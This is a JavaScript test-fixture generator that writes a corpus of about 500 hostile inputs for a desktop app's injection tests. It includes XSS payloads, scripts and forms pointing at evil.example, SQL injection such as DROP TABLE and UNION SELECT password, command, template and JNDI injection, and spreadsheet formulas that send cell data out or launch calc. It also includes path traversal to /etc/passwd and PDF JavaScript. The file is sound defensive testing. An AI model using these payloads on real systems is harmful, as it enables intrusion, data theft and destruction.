// Writes texts.json beside it: 500 texts that somebody, or somebody's program, could type, paste or import to do harm.
// Every test of injection reads that file: the core, the letters, the tables, the real window. Run after a change here.
import { writeFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";

/** What a script that ran would leave behind: the window looks for it. */
const RUN = "window.__pwned=1";
const SHORTEN = 190;

const lines = (text) => text.trim().split("\n").map((line) => line.replaceAll("RUN", RUN));
const each = (items, make) => items.map((item) => make(item));

const HTML = lines(`
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=//evil.example/x.js></script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=data:text/html,<script>RUN</script>></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:RUN">
<applet code=evil></applet>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x.html>
<style>*{display:none}</style>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example/x)}</style>
<form action=https://evil.example/><input name=phone><button>领取红包</button></form>
<button formaction=javascript:RUN>登录</button>
<input type=image src=x onerror=RUN>
<a href="javascript:RUN">查看物流</a>
<a href=" java&#x09;script:RUN">查看物流</a>
<a href="data:text/html,<script>RUN</script>">发票</a>
<a href=https://evil.example/ target=_blank>点这里</a>
<a href=https://evil.example/ download=发票.exe>下载发票</a>
<map><area href=javascript:RUN></map>
<template><script>RUN</script></template>
<noscript><p title="</noscript><script>RUN</script>">
<frameset onload=RUN><frame src=x></frameset>
<plaintext>
<xmp><script>RUN</script></xmp>
<isindex action=javascript:RUN type=submit>
<dialog open>系统提示：请输入密码</dialog>
<h1 style="position:fixed;inset:0;background:#fff">登录已过期</h1>
<div contenteditable autofocus onfocus=RUN>
<slot onslotchange=RUN></slot>
<portal src=https://evil.example/></portal>
<fencedframe src=https://evil.example/></fencedframe>
<!--<img src="--><img src=x onerror=RUN//">
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<%= RUN %>
<!DOCTYPE html><script>RUN</script>
<b>粗体</b>&nbsp;<i>斜体</i>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;
\\u003cscript\\u003eRUN\\u003c/script\\u003e
%3Cscript%3ERUN%3C/script%3E
\\x3cscript\\x3eRUN\\x3c/script\\x3e
`);

const EVENTS = lines("onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onpointerenter onpointerrawupdate ontoggle onbeforetoggle onwheel onscroll onresize onhashchange onpageshow onmessage oninput onchange onsubmit onkeydown oncopy onpaste ondrag ondrop oncontextmenu onplay onloadstart ontimeupdate onbegin onsearch onauxclick oncut".replaceAll(" ", "\n"));
const CARRIERS = ["img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee", "select autofocus", "div style=animation-name:x", "a href=#", "iframe"];
const HANDLERS = EVENTS.map((event, at) => `<${CARRIERS[at % CARRIERS.length]} ${event}=${RUN}>`);

const MARKUP = lines(`
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN />
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:RUN />
<svg><a xlink:href="javascript:RUN"><text y=20>点我</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><a id="</title><img src=x onerror=RUN>"></svg>
<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>
<math href=javascript:RUN>点我</math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<img src="x\`\`onerror=RUN">
<img/src/onerror=RUN>
<img src=x:x onerror=RUN
<IMG SRC=JaVaScRiPt:RUN>
<img src=1 href=1 onerror="javascript:RUN"></img>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<image src=x onerror=RUN>
<video><source onerror=RUN></video>
<table background=javascript:RUN>
<style><img src="</style><img src=x onerror=RUN//">
<select><template><img src=x onerror=RUN></template></select>
<x onclick=RUN tabindex=1 autofocus>点我</x>
<custom-element onconnected=RUN></custom-element>
<a id=x name=y><a id=x name=z>
<img name=getElementById><form name=body>
<form id=__TAURI_INTERNALS__><input name=invoke></form>
`);

const URLS = lines(`
javascript:RUN
JaVaScRiPt:RUN
javascript://%0aRUN
  javascript:RUN
java\\u0000script:RUN
vbscript:msgbox(1)
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=RUN>
blob:https://evil.example/00000000
file:///etc/passwd
file://C:/Windows/win.ini
tauri://localhost/../../etc/passwd
http://tauri.localhost.evil.example/
http://ipc.localhost/call
ipc://localhost/upload
asset://localhost/etc/passwd
https://evil.example@127.0.0.1/
https://evil.example/?phone=19900001234
//evil.example/x
\\\\evil.example\\share
smb://evil.example/share
ms-settings:privacy
about:blank
view-source:https://evil.example/
intent://evil#Intent;scheme=http;end
mailto:a@evil.example?body=RUN
tel:+8619900001234
`);

const STYLES = lines(`
color:red;background:url(https://evil.example/x)
}*{display:none}
";}</style><script>RUN</script>
expression(RUN)
-moz-binding:url(https://evil.example/x.xml#x)
behavior:url(x.htc)
@import 'https://evil.example/x.css';
/**/position:fixed;z-index:99999
url("javascript:RUN")
\\65xpression(RUN)
`);

const TEMPLATES = lines(`
{{7*7}}
{{constructor.constructor('RUN')()}}
\${7*7}
\${RUN}
\`\${RUN}\`
#{7*7}
*{7*7}
@{7*7}
<%= 7*7 %>
<#assign x=7*7>\${x}
{% for x in (1..9) %}{{x}}{% endfor %}
{{#with "s" as |string|}}{{string.sub.constructor}}{{/with}}
[[\${7*7}]]
$(reboot)
\`reboot\`
; reboot #
| reboot
&& reboot
%24%7b7*7%7d
{{{{raw}}}}
{"$ref":"#/definitions/x"}
{"__proto__":{"polluted":true}}
["__proto__"]
constructor
__proto__
toString
null
undefined
NaN
true
#set($x=7*7)$x
#let x = 7
#eval("1+1")
\\input{/etc/passwd}
\\write18{reboot}
!!python/object/apply:os.system ["reboot"]
jndi:ldap://evil.example/x
\${jndi:ldap://evil.example/x}
<!ENTITY x SYSTEM "file:///etc/passwd">
`);

const SQL = lines(`
' OR '1'='1
' OR 1=1 --
'; DROP TABLE quality_case; --
"; DROP TABLE consumer; --
') UNION SELECT password FROM account --
' UNION SELECT sql FROM sqlite_master --
1; PRAGMA key = 'x'
1; ATTACH DATABASE 'x.db' AS x
'; PRAGMA writable_schema = ON; --
'||(SELECT group_concat(phone) FROM consumer)||'
\\'; DELETE FROM ledger_entry; --
admin'--
1' AND randomblob(1000000000) --
' AND (SELECT load_extension('evil')) --
%' ESCAPE '%' --
_%
%
%%%%%
a_b%c
?1
:name
@name
$name
x'41'
0x41
/* 注释 */
-- 注释
;
''
''''
"
"""
[quality_case]
\`quality_case\`
NULL
CAST(x AS TEXT)
`);

const SEARCH = lines(`
"
"*
*
**
洗衣机*
"洗衣机
洗衣机"
NEAR(洗衣 机, 2)
NEAR
洗衣 AND
OR 洗衣
NOT
NOT 洗衣
a-b
-洗衣
+洗衣
text:洗衣
number:1
col:
:col
{a b}:c
^洗衣
(洗衣
洗衣)
((((((((((
a OR b AND NOT c
洗衣 NEAR/3 机
"a" + "b"
a.b.c
a:b:c
~洗衣
洗?机
[洗]衣
\\
\\\\
rowid:1
rank MATCH 'x'
search_text MATCH '*'
xqx0gap
GAP xqx0gap GAP
`);

const FORMULAS = lines(`
=1+1
=HYPERLINK("https://evil.example/?x="&A1,"点这里领取")
=cmd|'/C calc'!A0
=DDE("cmd","/C calc","x")
=WEBSERVICE("https://evil.example/")
=IMPORTXML("https://evil.example/","//a")
+1+1
+8619900001234
-1+1
-2+3+cmd|'/C calc'!A0
@SUM(1,1)
@SUM(1+9)*cmd|'/C calc'!A0
＝1+1
＋1+1
－1+1
＠SUM(1,1)
 =1+1
'=1+1
"=1+1"
"",=1+1
;=1+1
,=1+1
|=1+1
=1+1,=2+2
%0A=1+1
=
+
-
@
==1
=-1
=@x
={1,2}
=A1:A9
=INDIRECT("A1")
=_xlfn.X()
R[1]C[1]
#REF!
#NAME?
1e309
1.38E+10
00012345678901234567
2026-03-05
3/5
TRUE
1,234.50
￥1
(1)
`);
const TABBED = ["\t=1+1", "\t\t@SUM(1,1)", "\n=1+1", "\n\n+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "a\n=1+1", "a\t=1+1", "a;\"\n=1+1", "\u202e=1+1", " \t =1+1", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", "−1+1", "₌1", "⁼1"];

const CONTROL = each([0x00, 0x01, 0x02, 0x03, 0x04, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x0e, 0x1a, 0x1b, 0x1c, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f], (code) => `张${String.fromCodePoint(code)}三`).concat(["a\0b\0c", "\u001b[31m红\u001b[0m", "\u001b]0;标题\u0007", "\u001b[2J", "\b\b\b\b删", "退回\r覆盖"]);

const BIDI = each([0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c], (code) => `退款${String.fromCodePoint(code)}001 元`).concat(["发票\u202efdp.exe", "\u2067\u202e金额 100\u2069", "\u202d\u202e\u202d\u202e", "שלום 退货 مرحبا", "مرحبا (abc) 123", "a\u2066b\u2066c\u2066d"]);

const INVISIBLE = each([0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206a, 0x3164, 0xfe0e, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x1d173], (code) => `李${String.fromCodePoint(code)}四`).concat(["\u200b", "\u200b\u200b\u200b", "\ufeff", "\u2028", "a\u2028b", "a\u2029b", "\u00a0", "\u3000\u3000", "\u2800", "a\ufeffb"]);

const EMOJI = ["😀", "👨‍👩‍👧‍👦", "👩🏽‍🔧", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇨🇳🇨🇳", "❤️‍🔥", "1️⃣2️⃣", "🫠🫡🪫", "👍🏻👍🏿", "🧑‍🧑‍🧒‍🧒", "㊙️㊗️", "ㄅㄆㄇ", "♿︎♿️", "😀".repeat(90), "👨‍👩‍👧‍👦".repeat(8)];

const RARE = ["𠮷田", "𡈽", "㼆", "𤭢", "𪚥", "𫝆", "𬎆", "𮯠", "𰻝𰻝面", "𱁬", "䶮", "㐂", "彧", "堃", "喆", "犇犇", "骉", "赟", "燚燚", "龘龘", "靐", "齉", "爩", "鱻", "麤", "灪", "〇〇", "⺀⺁", "⿰木林", "⿱艹⿰日月", "ʻOkina", "阿卜杜拉·买买提", "次仁顿珠", "ᠮᠣᠩᠭᠣᠯ", "ꆈꌠꉙ", "བོད་ཡིག", "Ｊｏｈｎ　Ｓｍｉｔｈ", "Zoë Ångström", "O'Brien", "Đặng Thị", "İstanbul ı", "ﬁﬂ ﬃ", "Ⅷ ⅷ ㎏ ㏒", "①②③㈱", "½ ¼ ²³", "ß ẞ ſ", "Ω Ω K Å", "か\u3099 が", "A\u030a Å", "한글 한글", "ไทย ก็", "हिन्दी क्षि"];

const FLOODS = ["Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA", "a" + "\u0301".repeat(150), "汉" + "\u20dd".repeat(60), "ก" + "้".repeat(100), "\u0300\u0301\u0302", "﷽".repeat(40), "𒐫".repeat(40), "꧅".repeat(60), "W".repeat(SHORTEN), "长".repeat(SHORTEN), "－".repeat(SHORTEN), "(".repeat(SHORTEN), "\"".repeat(SHORTEN), "<".repeat(SHORTEN), "&amp;".repeat(36), "a ".repeat(95), "\n".repeat(60) + "尾", "长文本".repeat(1_300), "W".repeat(4_000), "<b>".repeat(1_300), "=1+1\n".repeat(700), "一行\n".repeat(1_000)];

const LOGS = lines(`
x%0d%0aSet-Cookie: a=b
2026-11-21T02:00:00Z refused session.sign_in wrong_password
refused shop.open locked 64a1
x\\r\\nrefused
`).concat(["张三\nrefused session.sign_in wrong_password 1", "张三\r\n[INFO] 已退款", "\nADMIN 登录成功", "a\n\n\nb", "a\tb\tc"]);

const FORMATS = lines(`
%s%s%s%s%s
%n%n%n
%x%x%x%x
%1000000d
%@
{0}{1}
{}
{:?}
%(name)s
$1 $& $\`
\\1\\2
\\n\\r\\t
\\0
\\u0000
%00
%u202e
&#0;
&NotEqualTilde;
`);

const PATHS = lines(`
../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
C:\\Windows\\System32
\\\\?\\C:\\x
CON
NUL.pdf
COM1
LPT1.txt
aux.
name.
name 
.hidden
~
~root
a/b/c
a\\b\\c
a:b
发票.pdf.exe
发票.pdf:ads
%2e%2e%2f
..%c0%af
-rf
--help
*.pdf
a|b
a<b>c
a"b
shounuo.db
shounuo.keys
`);

const PDF = lines(`
) Tj ET /JavaScript
(\\) Tj
endstream endobj
1 0 obj << /S /JavaScript /JS (app.alert(1)) >>
/OpenAction
<< /Type /Action /S /URI /URI (https://evil.example/) >>
%PDF-1.7
%%EOF
trailer << /Root 1 0 R >>
BT /F1 12 Tf (x) Tj ET
\\(\\)
\\101\\102
<FEFF0041>
`);

const GROUPS = { html: HTML, handler: HANDLERS, markup: MARKUP, url: URLS, style: STYLES, template: TEMPLATES, sql: SQL, search: SEARCH, formula: [...FORMULAS, ...TABBED], control: CONTROL, bidi: BIDI, invisible: INVISIBLE, emoji: EMOJI, rare: RARE, flood: FLOODS, log: LOGS, format: FORMATS, path: PATHS, pdf: PDF };

/** Every text once, with the group it belongs to. */
export function texts() {
  const all = Object.entries(GROUPS).flatMap(([group, items]) => items.map((text) => ({ group, text })));
  return [...new Map(all.map((entry) => [entry.text, entry])).values()];
}

/** The file as it is kept: a text a line, everything beyond ASCII escaped, so that an editor shows and changes nothing. */
export function written() {
  const ascii = (value) => JSON.stringify(value).replace(/[\u007f-\uffff]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);
  return `[\n${texts().map(ascii).join(",\n")}\n]\n`;
}

export const FILE = fileURLToPath(new URL("texts.json", import.meta.url));
if (process.argv[1] === fileURLToPath(import.meta.url)) await writeFile(FILE, written());
